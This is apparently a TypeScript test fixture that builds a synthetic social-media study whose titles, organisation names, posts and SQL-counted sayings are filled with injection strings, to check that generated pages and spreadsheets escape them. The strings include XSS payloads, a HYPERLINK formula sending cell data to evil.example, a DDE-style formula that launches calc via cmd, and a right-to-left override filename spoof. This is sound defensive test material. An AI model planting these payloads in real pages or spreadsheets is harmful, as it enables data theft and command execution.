import { capture, SmallStudy } from "./small-study.ts";

const long = "школа".repeat(2000);

/** What someone may write into a post, a name or a hashtag so that a careless page or spreadsheet would act on it. */
export const hostile = {
  script: `"><script>document.title="run"</script>`,
  image: `<img src=x onerror="document.title='run'">`,
  link: `<a href="javascript:document.title='run'">школа</a>`,
  markdown: "[школа](javascript:document.title='run') ![x](x) ::: figure sayings",
  formula: `=HYPERLINK("https://evil.example/?"&A1,"школа")`,
  spaced: " \t@SUM(1+1)*cmd|' /C calc'!A0",
  turned: "школа \u202egnp.exe\u202c \u2066конец",
  long,
  entity: "&lt;b&gt; &amp; {{x}} </td></table></main>",
} as const;

export const texts: readonly string[] = Object.values(hostile);

const sql = (value: string) => `'${value.replaceAll("'", "''")}'`;

const table = `-- title: Posts by saying
-- population: posts
-- unit: post
-- key: [saying]
-- columns:
--   saying: [text, what was written]
--   posts: [count, posts]
--   total: [count, all posts]
-- cell: { count: posts, of: total }
select sayings.saying, count(*) as posts, (select count(*) from posts) as total
from posts
cross join (values ${texts.map((text) => `(${sql(text)})`).join(", ")}) as sayings (saying)
where posts.post_id is not null
group by sayings.saying
order by sayings.saying
`;

const query = `-- title: Sayings
-- question: What do they write?
-- population: posts
-- unit: post
-- method: /index
-- key: [saying]
-- columns:
--   saying: [text, what was written]
--   posts: [count, posts]
--   share: [proportion, posts of all]
-- chart: {kind: dots, label: saying, x: share}
select saying, posts, posts / total as share
from posts_by_saying
order by saying
`;

const json = (text: string) => JSON.stringify(text);

const study = `
id: hostile
title: { en: ${json(`A study </title>${hostile.script}`)} }
synthetic: true
window: { from: 2024-01-01, to: 2024-12-31 }
time_zone: UTC
languages: [ru]
report_languages: [en]
threshold: 5
publish: { organisation_posts: true }
contact: nobody@study.example
citation: { authors: [${json(`Nobody </script>${hostile.script}`)}], licence: ${json(hostile.image)} }
corpora: [{ id: all, title: { en: ${json(hostile.image)} }, description: { en: ${json(hostile.link)} } }]
scopes: [{ id: all, title: { en: ${json(hostile.formula)} }, description: { en: ${json(hostile.turned)} } }]
questions: [{ id: q, text: { en: ${json(hostile.script)} }, stakeholder: { en: ${json(hostile.image)} } }]
platforms: [{ id: news, title: { en: ${json(hostile.script)} }, hosts: ["*"] }]
captures:
`;

const csv = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** A study whose organisations' names, posts and hashtags, topics, titles and counted sayings are all hostile. */
export function hostileStudy(): SmallStudy {
  const columns = "format: ndjson, platform: news, columns: { native_id: id, published_at: at, text: text }";
  const posts = texts.map((text, index) =>
    JSON.stringify({
      id: `https://help.example/${index}`,
      at: `2024-05-0${1 + (index % 9)}T10:00:00Z`,
      text: `Школа номер ${index}: ${text} #школа<script>document.title="run"</script>`,
    }),
  );
  const entry = capture("notes", "table", "raw/notes.ndjson", columns);
  return new SmallStudy(entry, {
    "raw/notes.ndjson": `${posts.join("\n")}\n`,
    "study/study.yml": study + entry,
    "study/topics.yml": `- id: school\n  title: { en: ${json(hostile.script)} }\n  note: ${json(hostile.link)}\n  query: { ru: школ* }\n`,
    "study/organisations.csv": `id,name_en,type,region,website\nhelp,${csv(hostile.image)},${csv(hostile.formula)},,help.example\n`,
    "src/index.md":
      "# Sayings\n\n::: figure sayings\nWhat was written.\n:::\n\n::: organisations\n:::\n\n::: queries topics\n:::\n\n::: questions\n:::\n\n::: captures\n:::\n",
    "src/explore.md": '---\nnumbers: free\n---\n\n# Explore\n\n<div class="explorer"></div>\n',
    "src/tables/posts_by_saying.sql": table,
    "src/sayings.sql": query,
  });
}
